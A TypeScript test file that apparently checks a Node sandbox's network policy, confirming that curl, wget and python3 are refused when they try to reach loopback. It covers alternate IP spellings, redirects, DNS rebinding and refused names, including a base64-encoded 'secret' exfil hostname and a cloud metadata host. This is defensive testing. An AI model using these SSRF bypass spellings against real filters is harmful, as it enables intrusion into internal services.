// Issue 20's network escapes, tried for real from curl, wget and python3 in a Node sandbox:
// loopback through IPv4-mapped IPv6 and other spellings of 127.0.0.1 (a tripwire listener
// that must see no connection), after a redirect from an allowed host, and DNS lookups for
// names the policy refuses (a DNS stub that must see no question). Every target here is on
// loopback; forms that would leave it (NAT64, 6to4, IPv4-compatible) are tested by decision
// only, in the SSRF corpus.

import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pythonSnapshotReady } from '../python/node-snapshot.js';
import { kernelBundlePath } from '../node/kernel-bundle.js';
import { Sandbox, drainWarmPool } from '../node/index.js';
import { startDnsStub, type DnsStub } from '../../../tests/network/dns-stub.js';
import { startTripwire, type Tripwire } from '../../../tests/network/tripwire.js';

const shellBuilt = existsSync(fileURLToPath(new URL('../../../public/wasm/shell.wasm', import.meta.url)));
const TIMEOUT = 300_000;

/** Hosts that all land on 127.0.0.1 (or the host itself, for 0.0.0.0) if anything connects. */
const LOOPBACK_FORMS = ['[::ffff:127.0.0.1]', '[0:0:0:0:0:ffff:7f00:1]', '[::ffff:0.0.0.0]', '[::ffff:7f00:1]', '[::FFFF:127.0.0.1]', '127.1', '0x7f.0.0.1', '2130706433', '0177.0.0.1', '127.0.0.1.', '0.0.0.0', 'LOCALHOST', 'localhost.', 'anything.localhost'];

const curlAll = (urls: string[], flags = '-s'): string => urls.map((u) => `curl ${flags} -o /dev/null -w '%{http_code}\\n' '${u}'; echo "curl $?"`).join('\n');
const wgetAll = (urls: string[]): string => urls.map((u) => `wget -q -O /dev/null '${u}'; echo "wget $?"`).join('\n');
const pythonAll = (urls: string[]): string => `python3 - <<'EOF'
import urllib.request, urllib.error
for url in ${JSON.stringify(urls)}:
    try:
        print('python', urllib.request.urlopen(url, timeout=30).status)
    except Exception as e:
        print('python refused' if 'network policy' in str(e) else 'python failed', type(e).__name__)
EOF`;

/** curl and wget at every URL, python3 at the first `pythonCount`: each refused, nothing reached. */
async function expectAllRefused(sandbox: Sandbox, wire: Tripwire, urls: string[], pythonCount: number, curlFlags?: string): Promise<void> {
  const curl = await sandbox.run(curlAll(urls, curlFlags), { timeoutMs: 120_000 });
  expect(curl.stdout.match(/^curl \d+$/gm)).toEqual(urls.map(() => 'curl 7'));
  const wget = await sandbox.run(wgetAll(urls), { timeoutMs: 120_000 });
  expect(wget.stdout.match(/^wget \d+$/gm)).toEqual(urls.map(() => 'wget 4'));
  const python = await sandbox.run(pythonAll(urls.slice(0, pythonCount)), { timeoutMs: 180_000 });
  expect(python.stdout.trim().split('\n')).toEqual(urls.slice(0, pythonCount).map(() => 'python refused URLError'));
  expect(wire.connections).toBe(0);
}

async function listen(handler: Parameters<typeof createServer>[1]): Promise<{ server: Server; port: number }> {
  const server = createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port };
}

describe.skipIf(!shellBuilt)('network escapes (issue 20)', { timeout: TIMEOUT }, () => {
  let wire: Tripwire;
  let redirector: { server: Server; port: number };
  let hello: { server: Server; port: number };
  let dns: DnsStub;
  let rebound: Tripwire;

  beforeAll(async () => {
    wire = await startTripwire('127.0.0.1');
    redirector = await listen((req, res) => res.writeHead(302, { Location: decodeURIComponent((req.url ?? '/').slice(1)) }).end());
    hello = await listen((_req, res) => res.end('hello'));
    // Rebinding: the name first resolves to the hello server, later to a tripwire on 127.0.0.2.
    rebound = await startTripwire('127.0.0.2', hello.port);
    dns = await startDnsStub((name, type, count) => {
      if (name === 'rebind.test') return type === 'A' ? [count === 1 ? '127.0.0.1' : '127.0.0.2'] : [];
      if (name === 'allowed.test') return type === 'A' ? ['127.0.0.1'] : [];
      return undefined;
    });
    await pythonSnapshotReady(await kernelBundlePath());
  }, TIMEOUT);

  afterAll(async () => {
    drainWarmPool();
    await Promise.all([wire?.close(), rebound?.close(), dns?.close(), new Promise((r) => redirector?.server.close(r)), new Promise((r) => hello?.server.close(r))]);
  });

  it('refuses every spelling of loopback under allowedHosts ["*:*"], from curl, wget and python3', async () => {
    const sandbox = await Sandbox.create({ network: { allowedHosts: ['*:*'], blockedHosts: ['127.0.0.1', 'localhost', '::1'] }, dnsServers: [dns.server] });
    try {
      await expectAllRefused(sandbox, wire, LOOPBACK_FORMS.map((host) => `http://${host}:${wire.port}/`), 5);
      expect(dns.questions).toEqual([]);
    } finally {
      await sandbox.destroy();
    }
  });

  it('refuses loopback reached through a redirect from an allowed host', async () => {
    const sandbox = await Sandbox.create({ network: { allowedHosts: ['*:*', `127.0.0.1:${redirector.port}`] } });
    try {
      const targets = ['[::ffff:127.0.0.1]', '[0:0:0:0:0:ffff:7f00:1]', '[::ffff:0.0.0.0]', '127.0.0.1'].map((host) => `http://127.0.0.1:${redirector.port}/${encodeURIComponent(`http://${host}:${wire.port}/`)}`);
      await expectAllRefused(sandbox, wire, targets, 3, '-s -L');
    } finally {
      await sandbox.destroy();
    }
  });

  it('looks up no name the policy refuses by name (default deny, unlisted, blocked, floor names)', async () => {
    const closed = await Sandbox.create({ dnsServers: [dns.server] });
    const open = await Sandbox.create({ network: { allowedHosts: ['allowed.test:*', '*.wild.test'], blockedHosts: ['*.blocked.wild.test'] }, dnsServers: [dns.server] });
    try {
      const secret = ['http://c2VjcmV0.exfil.example.test/', 'https://data-1234.example.test/x'];
      await closed.run(`${curlAll(secret)}\n${wgetAll(secret)}`, { timeoutMs: 120_000 });
      await closed.run(pythonAll(secret), { timeoutMs: 180_000 });
      const refusedByName = ['http://unlisted.example.test/', 'http://x.blocked.wild.test/', 'http://metadata.google.internal/', 'http://svc.internal/', 'http://localhost/', 'http://allowed.test.evil.test/'];
      const refused = await open.run(curlAll(refusedByName), { timeoutMs: 120_000 });
      expect(refused.stdout.match(/^curl \d+$/gm)).toEqual(refusedByName.map(() => 'curl 7'));
      expect(dns.questions).toEqual([]);
      // The control: an allowed name is looked up (so the stub is the resolver in use), and
      // what it resolves to is decided by the floor — loopback, named without a port: refused.
      const allowed = await open.run(curlAll([`http://allowed.test:${wire.port}/`]), { timeoutMs: 120_000 });
      expect(allowed.stdout).toContain('curl 7');
      expect(dns.questions.map((q) => q.name)).toContain('allowed.test');
      expect(dns.questions.every((q) => q.name === 'allowed.test')).toBe(true);
      expect(wire.connections).toBe(0);
    } finally {
      await closed.destroy();
      await open.destroy();
    }
  });

  it('connects to the address it checked: a name that rebinds to another address is not looked up again', async () => {
    const sandbox = await Sandbox.create({ network: { allowedHosts: [`rebind.test:${hello.port}`] }, dnsServers: [dns.server] });
    try {
      const result = await sandbox.run(`curl -s http://rebind.test:${hello.port}/`, { timeoutMs: 120_000 });
      // One lookup (answered 127.0.0.1, open through the exact entry) and a connection to
      // that address. A second lookup would either fail (the system resolver does not know
      // the name) or, through the stub, reach the tripwire on 127.0.0.2.
      expect(result.stdout).toBe('hello');
      expect(dns.questions.filter((q) => q.name === 'rebind.test' && q.type === 'A')).toHaveLength(1);
      expect(rebound.connections).toBe(0);
    } finally {
      await sandbox.destroy();
    }
  });
});
